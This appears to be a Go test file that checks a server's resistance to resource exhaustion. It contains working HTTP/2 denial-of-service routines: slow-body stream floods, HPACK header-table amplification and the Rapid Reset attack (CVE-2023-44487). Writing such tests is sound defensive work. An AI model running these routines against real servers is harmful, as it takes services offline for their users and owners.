package exhaustion_test

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net/http"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/tokengraft/tokengraft/enrich/enrichtest"
)

func encoded(text string) string { return enrichtest.EncodeSegment(text) }

// floodStreams sends forms of 1 MiB on the streams of few connections, and holds back
// their last byte.
func floodStreams(a *attacker) {
	const streams = 250
	a.eachOf(size(1, 4), func(int) {
		transport := &http.Transport{
			DialContext: a.connect,
			Protocols:   new(http.Protocols),
			HTTP2:       &http.HTTP2Config{StrictMaxConcurrentRequests: true},
		}
		transport.Protocols.SetUnencryptedHTTP2(true)
		defer transport.CloseIdleConnections()
		a.eachOf(streams, func(int) {
			body := io.MultiReader(strings.NewReader(form(1<<20-1)), waiting{a.ctx})
			a.bytes.Add(1 << 20)
			request, _ := http.NewRequestWithContext(a.ctx, http.MethodPost, a.at.URL("/anywhere"), body)
			request.Header.Set("Content-Type", "application/x-www-form-urlencoded")
			request.ContentLength = 1 << 20
			a.noteReply(transport.RoundTrip(request))
		})
	})
}

// waiting is a reader that returns nothing until a context ends.
type waiting struct{ ctx context.Context }

func (w waiting) Read([]byte) (int, error) { <-w.ctx.Done(); return 0, io.EOF }

func (a *attacker) noteReply(response *http.Response, err error) {
	switch {
	case err == nil:
		response.Body.Close()
		a.note(fmt.Sprint(response.StatusCode))
	case a.ctx.Err() != nil:
		a.note("held to the end")
	default:
		a.note("closed")
	}
}

// floodFields sends header blocks that are small on the wire and large in memory, on
// more streams than are allowed, and ends none of the requests.
func floodFields(a *attacker) {
	a.frames(size(10, 50), func(framer *http2.Framer) error {
		for stream := uint32(1); stream < 500; stream += 2 {
			block := fieldBlock(stream == 1)
			if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block, EndHeaders: true}); err != nil {
				return err
			}
			a.bytes.Add(int64(len(block)))
		}
		a.pause(time.Minute)
		return nil
	})
}

// fieldBlock returns a header block with 1,500 fields. All but the first refer to the
// table of the connection, in one byte each.
func fieldBlock(first bool) []byte {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for _, field := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":path", "/"}, {"content-type", "application/x-www-form-urlencoded"}} {
		encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1], Sensitive: true}) // not in the table
	}
	if first {
		block.Write([]byte{0x40, 1, 'a', 1, 'b'})
	}
	block.Write(bytes.Repeat([]byte{0x80 | 62}, 1500)) // 62 is the newest entry of the table
	return block.Bytes()
}

// resetStreams opens streams and resets them (CVE-2023-44487).
func resetStreams(a *attacker) {
	block := fieldBlock(false)
	block = block[:len(block)-1500]
	a.frames(4, func(framer *http2.Framer) error {
		for stream := uint32(1); a.ctx.Err() == nil && stream < 1<<20; stream += 2 {
			err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block, EndHeaders: true, EndStream: true})
			if err == nil {
				err = framer.WriteRSTStream(stream, http2.ErrCodeCancel)
			}
			if err != nil {
				return err
			}
		}
		return nil
	})
}

// frames opens n connections at a time, and writes frames to them.
func (a *attacker) frames(n int, write func(*http2.Framer) error) {
	a.eachOf(n, func(int) {
		conn, closed := a.dial()
		if conn == nil {
			return
		}
		defer closed()
		io.WriteString(conn, http2.ClientPreface)
		framer := http2.NewFramer(conn, nil)
		framer.WriteSettings()
		go io.Copy(io.Discard, conn)
		if err := write(framer); err != nil && a.ctx.Err() == nil {
			a.note("closed")
			return
		}
		a.note("held to the end")
	})
}
